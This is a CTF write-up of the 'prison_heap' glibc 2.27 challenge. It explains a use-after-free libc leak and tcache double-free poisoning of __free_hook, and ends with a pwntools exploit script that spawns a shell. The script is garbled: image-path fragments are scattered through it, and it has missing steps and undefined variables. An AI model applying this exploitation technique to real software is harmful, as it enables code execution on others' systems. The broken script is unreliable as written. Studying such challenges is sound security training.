Prison heap

This was the first of two amazing challenges about heap exploiting made by @javierprtd. I think it was relatively easy and good as entry point for those willing to start in heap exploiting. I won’t cover all the basics so I recommend taking a look at these two amazing resources: this and this. Let’s start!

Setting the libc

The heap implementation slightly varies across different libc versions, including security fixes, which are really important for us. Of course, offsets also change. That’s why we have to run the binary with the given libc, and not with the one installed in our system. The way I do it is with LD_PRELOAD. However, we can’t just LD_PRELOAD the libc, as the binary will use the loader of the system. We can get with the tool glibc-all-in-one. Then, we can patch the given binary with:

patchelf --set-interpreter /path/to/ prison_heap

Now we can run it doing:

LD_PRELOAD=./ ./prison_heap

Or in pwntools:

PATH = "./prison_heap"
ENV = {"LD_PRELOAD":"./"}
p = process(PATH, env=ENV)


The binary prompts the usual menu with three different options: allocating and writing, freeing and reading. Let’s take a look at the different functions with ghidra.

Allocating and writing

This is done in the function write_prison:

The program saves the size and the address of each allocation in a global variable. As we cansee, it first counts how many allocations we already did, and exits if it is greater than 10, so we can only perform 11 allocations. It then asks for a size, and if it is greater than 0x800 it says “Unauthorized size”, but continues with theexecution. Finally, it performs the allocation and writes our input char by char. Note that it won’t introduce new lines (\n) and that it doesn’t null out the last char (possibility to get a leak and partial overwrite).


Let’s take a look at the function free_prison:

It simply asks for an index and frees the corresponding allocation if it is not NULL. However, it doesn’t null out the pointer after freeing, so we can perform double free.


It will puts the content without any check. As pointers are not nulled when freed, there’s a UAF that allows us to get a leak.


Vulnerabilities we found:

  • Failed attempt to restrict the size of the allocation, so we’ve got arbitrary size malloc.
  • Pointers are not nulled when freed, which leads to UAF.
  • It doesn’t set a null character at the end of our input. This is not important in this challenge but will be critical in the second part.



As you may know, when you call malloc you are given a piece of memory, which we call chunk. When freed, this chunk is added to a linked list, which we call bin, that can be single-linked list or circular double-linked list, depending on the size of the chunk. In libc 2.26 tcache bins were added, and every free chunk with size lower than 0x408 is added to those bins, which are LIFO single-linked lists. That means that when we free a chunk of that size, an address will be written to it: the address of thenext free chunk. However, if it is the only free chunk, that address will be 0, indicating the end of the list.

On the other hand, every chunk that is not added to a tcache bin (either because it’s full or because it’s size isgreater than 0x408) is first added to the unsorted bin, a FIFO circular double-linked list. Now, free chunks will not only have a forward pointer pointing to the next free chunk but also a backward pointer. This means both the first and last chunk of the list will have a pointer to the head of the list, in the bk and fd pointers respectively. And the head of the list is in the libc. So we can simply allocate a large chunk, free it and read its content, and we’ll have a libc leak. This is the usual way of getting a libc leak: free a chunk into the unsorted bin and read its content.If you didn’t understand this I suggest reading the resources of the introduction.


Once we have a leak, it’s time to get a shell. The usual way of doing it is writing one-gadget or system into __free_hook or __malloc_hook, which are pointers to functions that will be called when free and malloc are called. In order to do that, we’ll exploit the double free vulnerability. Libc 2.27 does not include checks for double freeing a tcache chunk, so they are very easy to exploit.

When we first free a chunk of size less than 0x408, it gets added to a tcache bin, which is a LIFO single linked list. Which means the bin will be: HEAD --> chunk1 --> 0. If we read the chunk we would get nothing because it points to NULL, as it is the end of the list.

When we free another chunk of the same size, it gets added to the beginning of the list: HEAD --> chunk2 --> chunk1 --> 0. If we would now read chunk2 we would get a heap leak, as it points to chunk1 which is in the heap. Allocating a chunk would now give us chunk2, and the bin would be like before.

However, what happens when we free the same chunk twice? The bin would be: HEAD --> chunk --> chunk --> chunk --> .... The chunk points to itself, creating an infinite list. If we allocate the chunk without writing anything, we will always get the same chunk. More interesting, if we allocate and write, we will be overwriting the fd pointer that originally pointed to itself. If we write the address of __free_hook, the bin will become like this: HEAD --> chunk --> __free_hook --> 0. Therefore, performing two more allocations we will get a chunk in __free_hook. Then, we only have to write the address of one-gadget and call free. However, it seemed like none of the constraints of one-gadget were satisfied. Other possible option is to write the address of system, and then free a chunk where we wrote /bin/sh. That way, free("/bin/sh") will turn into system("/bin/sh") and give us a shell.


  • Before freeing the chunk to get it into the unsorted bin, we must allocate another chunk. If not, the chunk will be consolidated with the top chunk and not added to the unsorted bin.
  • When we allocate the chunk that we want to be in the tcache bin, we are given the same address of the free bigchunk in the unsorted bin. That’s because that chunk was a “large chunk”. It was split, and part of it was served for the allocation of a new chunk.


import os
from pwn import *

PATH = "./prison_heap"
ENV = {"LD_PRELOAD":"./"}

OFFSET_SYSTEM = 0x000000000004f440
OFFSET_FREEHOOK = 0x00000000003ed8e8

def write(what, size=None):
    if size is None:
        size = len(what)
    p.sendlineafter("4. Exit\n", "1")
    p.sendlineafter("Choose the size of prison heap", str(size))
    p.sendlineafter("to enter the prison", what)

def free(index):p.sendlineafter("4. Exit\n", "2")
    p.sendlineafter("for free", str(index))def read(index):
    p.sendlineafter("4. Exit\n", "3")
    p.sendlineafter("for read\n", str(index))
    data = p.recvuntil("Choose Option", drop=True)
    return data

context.binary = PATH
    p = remote("", 1337)
    p = process(PATH, env=ENV)

write("hola", 2000) # 0, 0x260
write("hola", 2000) # 1, 0xa40, avoid consolidation
# unsorted bin: HEAD -> 0x555555761260 --> HEAD, HEAD being in libc

leak = read(0)[:-1]
leak =u64(leak.ljust(8, b"\x00"))


write("AAAA",0x20) # 2, 0x260
# tcache bin: HEAD -->0x555555761260 --> 0

# tcache bin: HEAD --> 0x555555761260 --> 0x555555761260 --> 0

write(pack(FREE_HOOK), 0x20) # 3, 0x260
# tcache bin: HEAD --> 0x555555761260 --> FREE_HOOK --> 0

write("/bin/bash\x00", 0x20) # 4, 0x260
# tcache bin: HEAD --> FREE_HOOK -->0

write(pack(SYSTEM), 0x20) # 5, chunk at FREE_HOOK

free(4) # system("/bin/bash")Leave a comment

Youremail address will not be published.Required fields are marked *